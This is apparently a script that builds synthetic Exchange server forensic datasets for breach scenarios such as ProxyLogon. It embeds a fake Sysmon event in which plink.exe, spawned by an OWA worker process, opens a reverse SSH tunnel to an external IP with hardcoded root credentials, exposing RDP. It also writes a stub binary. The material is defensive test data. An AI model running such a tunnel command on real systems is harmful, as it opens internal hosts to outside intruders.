    eventsXml([sysmonProcess(tShell + 120_000, 51877, 'EX13CAS.adatum.local', 'C:\\ProgramData\\VMware\\plink.exe', 'C:\\ProgramData\\VMware\\plink.exe -ssh -P 443 -l root -pw Passw0rd -R 0.0.0.0:2525:127.0.0.1:3389 86.105.18.116', w3wpCmd('MSExchangeOWAAppPool'))]),
  );
  s.w.put('C/ProgramData/VMware/plink.exe', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(510, 0x90)]));
  s.w.flush();
}

const CORPORA = {
  'ex19-busy-clean': ex19BusyClean,
  'se26-patched': () => seServer('se26-patched', '15.2.2562.57', true),
  'se26-unpatched': () => seServer('se26-unpatched', '15.2.1118.7', false),
  'ex16-proxynotshell': ex16ProxyNotShell,
  'ex13-proxylogon': ex13ProxyLogon,
};
// `node scripts/make-corpora.mjs OUT [name ...]`: all corpora, or only the named ones.
const wanted = process.argv.slice(3);
for (const name of wanted) if (!CORPORA[name]) throw new Error(`unknown corpus ${name}; known: ${Object.keys(CORPORA).join(', ')}`);
mkdirSync(OUT, { recursive: true });
for (const [name, make] of Object.entries(CORPORA)) if (!wanted.length || wanted.includes(name)) make();
